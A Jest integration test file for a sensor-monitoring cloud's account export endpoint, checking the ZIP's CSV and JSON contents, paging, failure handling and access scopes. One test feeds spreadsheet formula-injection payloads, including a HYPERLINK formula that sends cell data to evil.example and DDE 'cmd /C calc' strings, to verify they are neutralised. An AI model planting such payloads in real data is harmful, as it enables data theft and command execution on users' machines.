import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { ManualClock } from '../../../cloud/src/clock.ts';
import { ExportRepository } from '../../../cloud/src/export/export.repository.ts';
import { EXPORT_COLUMNS } from '../../../cloud/src/export/export.service.ts';
import { formatMicros } from '../../../shared/time.ts';
import { signUp, startTestCloud, type SignedIn, type TestCloud } from '../../helpers/cloud.ts';
import { DATABASES, tempDir } from '../../helpers/databases.ts';
import { alarmEventRow, createDevice, createSite } from '../../helpers/fixtures.ts';
import { at, ingestCore, ingestHttp, READ_ENV, type Reading } from '../measurements/reads-helpers.ts';

const NOW = at('2026-03-10T12:00:00Z');
const MINUTE = 60_000_000;

/** Downloads the export, checks it with `unzip -t` and extracts it with the real unzip. */
async function downloadExport(
  t: TestCloud,
  token: string,
): Promise<{ dir: string; files: string[]; headers: Headers }> {
  const response = await fetch(`${t.url}/v1/accounts/me/export`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
  });
  expect(response.status).toBe(200);
  const dir = tempDir('sm-export-');
  const zip = path.join(dir, 'export.zip');
  fs.writeFileSync(zip, Buffer.from(await response.arrayBuffer()));
  expect(execFileSync('unzip', ['-t', zip]).toString()).toContain('No errors detected');
  const listing = execFileSync('unzip', ['-Z1', zip]).toString().trim().split('\n');
  execFileSync('unzip', ['-q', zip, '-d', path.join(dir, 'out')]);
  return { dir, files: listing, headers: response.headers };
}

const csv = (dir: string, name: string) =>
  parse<Record<string, string>>(fs.readFileSync(path.join(dir, 'out', name)), { columns: true });

describe.each(DATABASES)('POST /v1/accounts/me/export on %s', (db) => {
  let t: TestCloud;
  let user: SignedIn;
  afterEach(async () => t?.stop());

  async function start(clock = new ManualClock(NOW)): Promise<void> {
    t = await startTestCloud({ db, clock, env: READ_ENV });
    user = await signUp(t, 'auditor@example.com');
  }

  it('streams a ZIP that unzip opens, with measurements.csv, events.csv, audit.csv and meta.json matching what was stored', async () => {
    await start();
    const site = await createSite(t, user.token, { name: 'Kitchen' });
    const fridge = await createDevice(t, user.token, site.id, { local_id: 'fridge-1' });
    const freezer = await createDevice(t, user.token, site.id, { local_id: 'freezer-1' });
    const fridgeReadings: Reading[] = Array.from({ length: 2500 }, (_, i) => ({
      ts: NOW - (3000 - i) * MINUTE + 17,
      value: Math.round(i * 1.7) / 10,
    }));
    const fridgeChannel = (await ingestCore(t, fridge, fridgeReadings)).channelId!;
    const doorChannel = await ingestHttp(t, fridge, [{ ts: NOW - MINUTE, value: 1 }], {
      type: 'leak',
      label: 'door, "left"',
    });
    const freezerChannel = await ingestHttp(t, freezer, [{ ts: NOW - 2 * MINUTE, value: -19.5 }]);
    // Another account's data never appears.
    const other = await signUp(t, 'other@example.com');
    const otherSite = await createSite(t, other.token);
    await ingestHttp(t, await createDevice(t, other.token, otherSite.id), [{ ts: NOW - MINUTE, value: 3 }]);

    const { dir, files, headers } = await downloadExport(t, user.token);
    expect(headers.get('content-type')).toBe('application/zip');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="export-acc_\w+-2026-03-10\.zip"$/,
    );
    expect(files.sort()).toEqual(['audit.csv', 'events.csv', 'measurements.csv', 'meta.json']);

    const measurements = csv(dir, 'measurements.csv');
    expect(Object.keys(measurements[0]!)).toEqual(EXPORT_COLUMNS['measurements.csv'].map((c) => c.name));
    expect(measurements).toHaveLength(2502);
    const fridgeRows = measurements.filter((r) => r.channel_id === fridgeChannel);
    expect(fridgeRows.map((r) => [r.ts, Number(r.value)])).toEqual(
      fridgeReadings.map((r) => [formatMicros(r.ts), r.value]),
    );
    expect(fridgeRows[0]).toMatchObject({
      device_id: fridge.id,
      site_id: site.id,
      type: 'temperature',
      label: '',
      unit: '°C',
      sensor_id: expect.stringMatching(/^snr_/),
    });
    expect(measurements.find((r) => r.channel_id === doorChannel)).toMatchObject({
      type: 'leak',
      label: 'door, "left"',
      value: '1',
    });
    expect(measurements.find((r) => r.channel_id === freezerChannel)).toMatchObject({
      device_id: freezer.id,
      ts: formatMicros(NOW - 2 * MINUTE),
      value: '-19.5',
    });

    const audit = csv(dir, 'audit.csv');
    expect(Object.keys(audit[0]!)).toEqual(EXPORT_COLUMNS['audit.csv'].map((c) => c.name));
    const created = audit.filter((a) => a.kind === 'device.created');
    expect(created.map((a) => a.target).sort()).toEqual([fridge.id, freezer.id].sort());
    expect(JSON.parse(created[0]!.details!)).toMatchObject({ site_id: site.id });
    expect(audit.every((a) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(a.ts!))).toBe(true);

    const eventsHeader = fs.readFileSync(path.join(dir, 'out', 'events.csv'), 'utf8').split('\n')[0];
    expect(eventsHeader).toBe(EXPORT_COLUMNS['events.csv'].map((c) => c.name).join(','));

    const meta = JSON.parse(fs.readFileSync(path.join(dir, 'out', 'meta.json'), 'utf8'));
    expect(meta).toMatchObject({
      format_version: 1,
      account_id: user.accountId,
      generated_at: '2026-03-10T12:00:00Z',
    });
    expect(meta.files['measurements.csv'].columns.map((c: { name: string }) => c.name)).toEqual([
      'ts',
      'channel_id',
      'sensor_id',
      'device_id',
      'site_id',
      'type',
      'label',
      'unit',
      'value',
    ]);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('writes every alarm event of the account to events.csv, withdrawn ones left out', async () => {
    await start();
    const site = await createSite(t, user.token);
    const device = await createDevice(t, user.token, site.id);
    const channelId = await ingestHttp(t, device, [{ ts: NOW - 90 * MINUTE, value: 4 }]);
    const sensor = await t.cloud.services.db
      .selectFrom('sensors')
      .selectAll()
      .where('channel_id', '=', channelId)
      .executeTakeFirstOrThrow();
    const owner = { accountId: user.accountId, siteId: site.id, deviceId: device.id, sensor, channelId };
    const event = (id: string, startedAt: number, more: Record<string, unknown> = {}) =>
      alarmEventRow(owner, id, startedAt, more);
    await t.cloud.services.db
      .insertInto('alarm_events')
      .values([
        event('evt_open', NOW - 90 * MINUTE),
        event('evt_done', NOW - 300 * MINUTE, {
          ended_at: NOW - 200 * MINUTE,
          silenced: 1,
          acknowledged_at: NOW - 100 * MINUTE,
          acknowledged_by: user.userId,
          ack_note: 'door left open, "closed" it',
        }),
        event('evt_gone', NOW - 400 * MINUTE, { withdrawn_at: NOW - 10 * MINUTE }),
      ])
      .execute();
    const { dir } = await downloadExport(t, user.token);
    expect(csv(dir, 'events.csv')).toEqual([
      {
        id: 'evt_done',
        kind: 'threshold_high',
        state: 'resolved',
        sensor_id: sensor.id,
        channel_id: channelId,
        device_id: device.id,
        site_id: site.id,
        started_at: '2026-03-10T07:00:00Z',
        alarm_at: '2026-03-10T07:30:00Z',
        ended_at: '2026-03-10T08:40:00Z',
        ok_min: '0',
        ok_max: '5',
        peak_value: '9',
        silenced: 'true',
        acknowledged_at: '2026-03-10T10:20:00Z',
        acknowledged_by: user.userId,
        ack_note: 'door left open, "closed" it',
        rule_id: '',
        severity: '',
      },
      expect.objectContaining({
        id: 'evt_open',
        state: 'open',
        ended_at: '',
        silenced: 'false',
        ack_note: '',
      }),
    ]);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("writes alert rules' events beside the sensor's own, with the rule and its severity, oldest first", async () => {
    // The alert rule applies from its creation, two hours before the readings.
    const clock = new ManualClock(NOW - 120 * MINUTE);
    await start(clock);
    const site = await createSite(t, user.token);
    const device = await createDevice(t, user.token, site.id);
    const channelId = await ingestHttp(t, device, [{ ts: NOW - 121 * MINUTE, value: 4 }]);
    const rule = await t.http.post(
      '/v1/alert-rules',
      {
        name: 'Fridge above 8 °C',
        channel_ids: [channelId],
        conditions: [{ type: 'above', value: 8, delay_min: 0, severity: 'critical' }],
      },
      { token: user.token },
    );
    expect(rule.status).toBe(201);
    clock.set(NOW);
    // 9.5 °C for 70 minutes: the sensor's own rule (0..5 °C, 30 minutes' grace) and the alert rule
    // (above 8 °C at once) each open an event, both resolved by 3 °C.
    await ingestHttp(
      t,
      device,
      [
        ...Array.from({ length: 8 }, (_, i) => ({ ts: NOW - 100 * MINUTE + i * 10 * MINUTE, value: 9.5 })),
        { ts: NOW - 20 * MINUTE, value: 3 },
      ],
      { concurrency: 1 },
    );
    await t.cloud.services.rules.drain();
    await t.cloud.services.alertEngine.drain();
    const { dir } = await downloadExport(t, user.token);
    // Both start with the same reading: their order is the ids'.
    const rows = csv(dir, 'events.csv');
    expect(rows.map((r) => r.id)).toEqual(rows.map((r) => r.id).sort());
    const byRule = [...rows].sort((a, b) => ((a.rule_id ?? '') < (b.rule_id ?? '') ? -1 : 1));
    expect(byRule.map((r) => [r.kind, r.rule_id, r.severity, r.ok_min, r.ok_max, r.state])).toEqual([
      ['threshold_high', '', '', '0', '5', 'resolved'],
      ['threshold_high', rule.json.id, 'critical', '', '', 'resolved'],
    ]);
    expect(rows.map((r) => [r.started_at, r.peak_value])).toEqual([
      [formatMicros(NOW - 100 * MINUTE).replace(/\.\d+Z$/, 'Z'), '9.5'],
      [formatMicros(NOW - 100 * MINUTE).replace(/\.\d+Z$/, 'Z'), '9.5'],
    ]);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('reads alarm events in pages ordered by started_at then id, each page after the last row of the one before', async () => {
    await start();
    const site = await createSite(t, user.token);
    const device = await createDevice(t, user.token, site.id);
    const channelId = await ingestHttp(t, device, [{ ts: NOW - 90 * MINUTE, value: 4 }]);
    const sensor = await t.cloud.services.db
      .selectFrom('sensors')
      .selectAll()
      .where('channel_id', '=', channelId)
      .executeTakeFirstOrThrow();
    const owner = { accountId: user.accountId, siteId: site.id, deviceId: device.id, sensor, channelId };
    await t.cloud.services.db
      .insertInto('alarm_events')
      .values([
        alarmEventRow(owner, 'evt_c', NOW - 100 * MINUTE),
        alarmEventRow(owner, 'evt_b', NOW - 200 * MINUTE),
        alarmEventRow(owner, 'evt_a', NOW - 200 * MINUTE, { kind: 'threshold_low' }),
        alarmEventRow(owner, 'evt_0', NOW - 300 * MINUTE),
        alarmEventRow(owner, 'evt_gone', NOW - 150 * MINUTE, { withdrawn_at: NOW }),
      ])
      .execute();
    const exports = new ExportRepository();
    const page = async (after: readonly [number, string] | null) =>
      (await exports.eventsPage(t.cloud.services.db, user.accountId, after, 2)).map((e) => e.id);
    expect(await page(null)).toEqual(['evt_0', 'evt_a']);
    expect(await page([NOW - 200 * MINUTE, 'evt_a'])).toEqual(['evt_b', 'evt_c']);
    // After evt_c only what the rule engine may open itself (the sensor has been silent since
    // NOW - 90 min: its no-data alarm), none of the rows written here.
    const written = new Set(['evt_0', 'evt_a', 'evt_b', 'evt_c', 'evt_gone']);
    expect((await page([NOW - 100 * MINUTE, 'evt_c'])).filter((id) => written.has(id))).toEqual([]);
  });

  it('writes device labels and acknowledgement notes that start like a formula as text, numbers as numbers', async () => {
    await start();
    const site = await createSite(t, user.token);
    const device = await createDevice(t, user.token, site.id);
    // A device chooses its channel labels; a spreadsheet would run these as formulas.
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"details")';
    const linkChannel = await ingestHttp(t, device, [{ ts: NOW - 2 * MINUTE, value: -3.5 }], {
      label: hyperlink,
    });
    const atChannel = await ingestHttp(t, device, [{ ts: NOW - MINUTE, value: 4 }], {
      label: '@SUM(1+1)*cmd|"/C calc"!A0',
    });
    const sensor = await t.cloud.services.db
      .selectFrom('sensors')
      .select(['id', 'seq'])
      .where('channel_id', '=', linkChannel)
      .executeTakeFirstOrThrow();
    await t.cloud.services.db
      .insertInto('alarm_events')
      .values(
        alarmEventRow(
          { accountId: user.accountId, siteId: site.id, deviceId: device.id, sensor, channelId: linkChannel },
          'evt_formula',
          NOW - 60 * MINUTE,
          { kind: 'threshold_low', ok_min: -2.5, peak_value: -3.5 },
        ),
      )
      .execute();
    const note = '+1+cmd|" /C calc"!A0\nsecond line';
    const ack = await t.http.post('/v1/events/evt_formula/ack', { note }, { token: user.token });
    expect(ack.status).toBe(200);

    const { dir } = await downloadExport(t, user.token);
    const measurements = csv(dir, 'measurements.csv');
    expect(measurements.find((r) => r.channel_id === linkChannel)).toMatchObject({
      label: `'${hyperlink}`,
      value: '-3.5',
    });
    expect(measurements.find((r) => r.channel_id === atChannel)!.label).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    // Numeric cells stay bare numbers, so a spreadsheet still sums them.
    const rawMeasurements = fs.readFileSync(path.join(dir, 'out', 'measurements.csv'), 'utf8');
    expect(rawMeasurements).toMatch(/,-3\.5\n/);
    const [event] = csv(dir, 'events.csv');
    expect(event).toMatchObject({ ok_min: '-2.5', peak_value: '-3.5', ack_note: `'${note}` });
    const rawEvents = fs.readFileSync(path.join(dir, 'out', 'events.csv'), 'utf8');
    expect(rawEvents).toContain(',-2.5,5,-3.5,');
    fs.rmSync(dir, { recursive: true, force: true });

    const series = await t.http.get(
      `/v1/channels/${linkChannel}/measurements?format=csv&from=${encodeURIComponent(formatMicros(NOW - 10 * MINUTE))}`,
      { token: user.token },
    );
    expect(series.status).toBe(200);
    expect(series.text).toBe(`ts,value\n${formatMicros(NOW - 2 * MINUTE)},-3.5\n`);
  });

  it('exports an account with no data as CSV headers only', async () => {
    await start();
    const { dir } = await downloadExport(t, user.token);
    expect(csv(dir, 'measurements.csv')).toEqual([]);
    expect(fs.readFileSync(path.join(dir, 'out', 'measurements.csv'), 'utf8').trim()).toBe(
      'ts,channel_id,sensor_id,device_id,site_id,type,label,unit,value',
    );
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('cuts the connection when a query fails in the middle of the ZIP, and the cloud goes on answering', async () => {
    await start();
    const site = await createSite(t, user.token);
    const device = await createDevice(t, user.token, site.id);
    await ingestHttp(t, device, [{ ts: NOW - MINUTE, value: 4 }]);
    // events.csv comes after measurements.csv: its query fails once part of the archive is sent.
    await sql`ALTER TABLE alarm_events RENAME TO alarm_events_away`.execute(t.cloud.services.db);
    const response = await fetch(`${t.url}/v1/accounts/me/export`, {
      method: 'POST',
      headers: { authorization: `Bearer ${user.token}` },
    });
    expect(response.status).toBe(200);
    await expect(response.arrayBuffer()).rejects.toThrow();
    await sql`ALTER TABLE alarm_events_away RENAME TO alarm_events`.execute(t.cloud.services.db);
    const sites = await t.http.get('/v1/sites', { token: user.token });
    expect(sites.status).toBe(200);
    const { dir } = await downloadExport(t, user.token);
    expect(csv(dir, 'measurements.csv')).toHaveLength(1);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('needs the admin scope: 403 forbidden for read and write tokens, 401 without one', async () => {
    await start();
    for (const scope of ['read', 'write']) {
      const created = await t.http.post('/v1/tokens', { label: scope, scope }, { token: user.token });
      const answer = await t.http.post('/v1/accounts/me/export', undefined, { token: created.json.token });
      expect([scope, answer.status, answer.json.error.code]).toEqual([scope, 403, 'forbidden']);
    }
    const anonymous = await t.http.post('/v1/accounts/me/export');
    expect([anonymous.status, anonymous.json.error.code]).toEqual([401, 'auth_required']);
  });
});
